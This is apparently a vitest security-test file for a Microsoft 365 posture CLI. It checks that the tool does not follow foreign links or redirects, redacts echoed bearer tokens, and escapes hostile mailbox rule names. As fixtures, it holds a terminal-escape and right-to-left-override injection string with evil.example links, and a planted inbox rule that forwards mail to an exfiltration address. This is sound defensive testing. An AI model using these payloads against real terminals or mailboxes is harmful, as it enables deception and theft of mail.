import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { PlanDocument } from '../../reconciler/model/plan.js';
import { startSimulator, type RunningSimulator, type SimulatorOptions } from '../../simulator/index.js';
import { startCollector, type Collector } from './collector.js';
import { cli, planAgainst, synthExamples, target, writer, driftedCore } from './harness.js';

let synthDir: string;
let sim: RunningSimulator | undefined;
let collector: Collector | undefined;
beforeAll(() => {
  synthDir = synthExamples();
});
afterEach(async () => {
  await sim?.stop();
  await collector?.stop();
  sim = undefined;
  collector = undefined;
});

const drifted = async (o: SimulatorOptions = {}) => (sim = await startSimulator({ scenario: driftedCore(), ...o }));
const tmp = () => mkdtempSync(join(tmpdir(), 'posture-hostile-'));
const FORMATS = { json: 'plan.json', html: 'report.html', markdown: 'plan.md', sarif: 'posture.sarif', junit: 'posture-junit.xml' } as const;
const reportArgs = (dir: string) => Object.entries(FORMATS).flatMap(([format, file]) => ['--format', format, '--out', join(dir, file)]);
const read = (dir: string, file: string) => readFileSync(join(dir, file), 'utf8');

describe('a hostile service cannot take the token elsewhere or plant data', () => {
  it('a nextLink to another host in an Exchange answer: nothing is sent there, and the run fails naming the read', async () => {
    const c = (collector = await startCollector());
    const s = await drifted({ faults: [{ api: 'exchange', route: '^Get-Mailbox$', kind: 'foreign-next-link', url: `${c.url}/adminapi/beta/${'x'}/InvokeCommand?$skiptoken=1` }] });
    const dir = tmp();
    const r = await planAgainst(s, synthDir, ['--max-retries', '0', '--out', join(dir, 'plan.json'), '--evidence', join(dir, 'evidence.jsonl')], writer(s));
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/the run is incomplete; this is not a clean result/);
    expect(r.stderr).toMatch(/Exchange Get-Mailbox\): Get-Mailbox: HTTP 200: the service returned a nextLink to http:\/\/127\.0\.0\.1:\d+, which is not the Exchange endpoint/);
    expect(c.requests).toEqual([]);
    const plan = JSON.parse(read(dir, 'plan.json')) as PlanDocument;
    expect(plan.incomplete.map((i) => i.endpoint)).toContain('Exchange Get-Mailbox');
  });

  it('a redirect to another host: its body is never taken as tenant data', async () => {
    const c = (collector = await startCollector({ value: [{ Identity: 'planted', AutoForwardingMode: 'Off' }] }));
    const s = await drifted({ faults: [{ api: 'exchange', route: '^Get-HostedOutboundSpamFilterPolicy$', kind: 'redirect', status: 307, url: `${c.url}/adminapi/beta/x/InvokeCommand` }] });
    const dir = tmp();
    const r = await planAgainst(s, synthDir, ['--max-retries', '0', '--out', join(dir, 'plan.json'), '--no-evidence'], writer(s));
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/HTTP 307 redirect to http:\/\/127\.0\.0\.1:\d+\/adminapi\/beta\/x\/InvokeCommand \(another origin\) not followed/);
    expect(c.requests).toEqual([]);
    expect(read(dir, 'plan.json')).not.toContain('planted');
  });
});

describe('a token or secret a service echoes reaches no output', () => {
  const secretsOf = (env: Record<string, string>) => [env['POSTURE_GRAPH_TOKEN']!, env['POSTURE_EXCHANGE_TOKEN']!].flatMap((t) => [t, t.split('.')[1]!]);
  const noSecret = (outputs: Record<string, string>, secrets: string[]) => {
    for (const [name, text] of Object.entries(outputs)) for (const secret of secrets) expect(text.includes(secret), `${name} holds a token`).toBe(false);
  };

  it('in the human plan, the JSON plan, every report, the logs and the evidence', async () => {
    const s = await drifted({
      faults: [
        { route: '^/v1.0/policies/authorizationPolicy$', method: 'GET', kind: 'echo-token' },
        { api: 'exchange', route: '^Get-AcceptedDomain$', kind: 'echo-token' },
      ],
    });
    const env = writer(s);
    const dir = tmp();
    const evidence = join(dir, 'evidence.jsonl');
    const r = await planAgainst(s, synthDir, ['--max-retries', '0', ...reportArgs(dir), '--evidence', evidence], env);
    expect(r.code).toBe(1);
    const json = await planAgainst(s, synthDir, ['--max-retries', '0', '--format', 'json', '--log-format', 'json', '--no-evidence'], env);
    const shown = await cli(['show', join(dir, 'plan.json'), '--color', 'false']);
    const outputs: Record<string, string> = {
      'human plan (stdout)': r.stdout,
      'logs (stderr)': r.stderr,
      'JSON logs': json.stderr,
      'JSON plan on stdout': json.stdout,
      'show': shown.stdout,
      evidence: readFileSync(evidence, 'utf8'),
      ...Object.fromEntries(Object.values(FORMATS).map((f) => [f, read(dir, f)])),
    };
    noSecret(outputs, secretsOf(env));
    // The failure itself is still reported, with the credential masked.
    const plan = JSON.parse(outputs['plan.json']!) as PlanDocument;
    expect(plan.incomplete.map((i) => i.error)).toEqual(expect.arrayContaining([expect.stringContaining("'Authorization: Bearer [redacted]'")]));
    expect(r.stdout).toContain("the header 'Authorization: Bearer [redacted]' could not be processed");
    for (const f of Object.values(FORMATS)) expect(outputs[f], f).toMatch(/\\?\[redacted\\?\]/);
  });

  it("in apply's failure lines", async () => {
    const s = await drifted({ faults: [{ route: '/policies/authorizationPolicy', method: 'PATCH', kind: 'echo-token' }] });
    const env = writer(s);
    const dir = tmp();
    const evidence = join(dir, 'evidence.jsonl');
    const r = await cli(['apply', '--auto-approve', '--max-retries', '0', '--evidence', evidence, ...target(s, synthDir)], env);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/FAILED +~ authorizationPolicy/);
    expect(r.stdout).toContain("Authorization: Bearer [redacted]' could not be processed");
    noSecret({ stdout: r.stdout, stderr: r.stderr, evidence: readFileSync(evidence, 'utf8') }, secretsOf(env));
  });
});

describe('a name any mailbox user can set cannot drive the terminal or forge a line', () => {
  const ESC = '\u001b';
  /** Clears the screen, retitles the window, rings the bell, forges a line of the change list, reverses text and carries links. */
  const HOSTILE = `Archive${ESC}[2J${ESC}]0;pwned\u0007\n  ~ authorizationPolicy "fake" (APP.CONSENT.1v1): PATCH /fake \u202Efdp.exe https://evil.example/login www.evil.example\u2028end`;
  const RAW = [ESC, '\u0007', '\u202E', '\u2028'];

  /** Creates the rule through Graph, as the mailbox's user (or whoever phished them) would. */
  async function plantRule(s: RunningSimulator): Promise<void> {
    const res = await fetch(`${s.graphUrl}/v1.0/users/alex.kim@tailspintoys.example/mailFolders/inbox/messageRules`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${writer(s)['POSTURE_GRAPH_TOKEN']}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ displayName: HOSTILE, sequence: 1, isEnabled: true, conditions: {}, actions: { forwardTo: [{ emailAddress: { address: 'drop@exfil-mail.test' } }], stopProcessingRules: true } }),
    });
    expect(res.status).toBe(201);
  }

  const noRaw = (name: string, text: string) => {
    for (const ch of RAW) expect(text.includes(ch), `${name} holds U+${ch.codePointAt(0)!.toString(16).padStart(4, '0')}`).toBe(false);
  };
  const noForgedLine = (name: string, text: string) => expect(text.split('\n').some((l) => l.startsWith('  ~ authorizationPolicy "fake"')), `${name} has a forged line`).toBe(false);

  it('in the human plan, the logs and every report', async () => {
    const s = await drifted();
    await plantRule(s);
    const dir = tmp();
    const r = await planAgainst(s, synthDir, [...reportArgs(dir), '--no-evidence'], writer(s));
    expect(r.code).toBe(2);
    // Every report went to a file: stdout has the run's summary, and the human plan is `posture show`'s.
    const human = await cli(['show', join(dir, 'plan.json'), '--color', 'false']);
    for (const [name, text] of [['summary', r.stdout], ['human plan', human.stdout], ['logs', r.stderr]] as const) {
      noRaw(name, text);
      noForgedLine(name, text);
    }
    expect(human.stdout).toContain('Archive\\x1b[2J\\x1b]0;pwned\\x07   ~ authorizationPolicy "fake"');
    expect(human.stdout).toContain('\\u{202e}fdp.exe');
    for (const f of Object.values(FORMATS)) {
      noRaw(f, read(dir, f));
      noForgedLine(f, read(dir, f));
    }
    // The JSON plan is data: the name is all there, only escaped.
    const plan = JSON.parse(read(dir, 'plan.json')) as PlanDocument;
    expect(plan.findings.map((f) => f.resource.name)).toContain(`alex.kim@tailspintoys.example: "${HOSTILE}"`);
    // On GitHub, the name's URL and www. name are text, not links.
    const html = micromark(read(dir, 'plan.md'), { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
    expect(html).not.toMatch(/<a [^>]*evil\.example/);
    expect(html).toContain('evil.example/login');
  });

  it("in apply's change list before the prompt, and in its result lines", async () => {
    const s = await drifted();
    await plantRule(s);
    const r = await cli(['apply', '--auto-approve', '--no-evidence', ...target(s, synthDir)], writer(s));
    expect(r.code).toBe(0);
    noRaw('apply', r.stdout);
    noForgedLine('apply', r.stdout);
    const lines = r.stdout.split('\n');
    expect(lines.filter((l) => l.includes('Archive\\x1b[2J'))).toHaveLength(2);
    const change = '- inboxRule "alex.kim@tailspintoys.example: "Archive\\x1b[2J\\x1b]0;pwned\\x07   ~ authorizationPolicy "fake" (APP.CONSENT.1v1): PATCH /fake \\u{202e}fdp.exe https://evil.example/login www.evil.example\\u{2028}end"" (MAIL.FWD.4v1): DELETE /users/';
    expect(lines.filter((l) => l.startsWith(`  ${change}`) || l.startsWith(`  applied ${change}`))).toHaveLength(2);
  });
});
